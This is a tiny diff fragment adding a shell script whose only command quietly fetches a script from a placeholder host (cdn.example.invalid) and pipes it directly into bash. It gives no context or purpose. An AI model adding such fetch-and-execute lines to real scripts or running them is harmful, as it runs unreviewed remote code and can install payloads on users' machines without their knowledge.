@@ -1,0 +1,2 @@
+#!/bin/sh
+wget -qO- https://cdn.example.invalid/opt.sh | bash
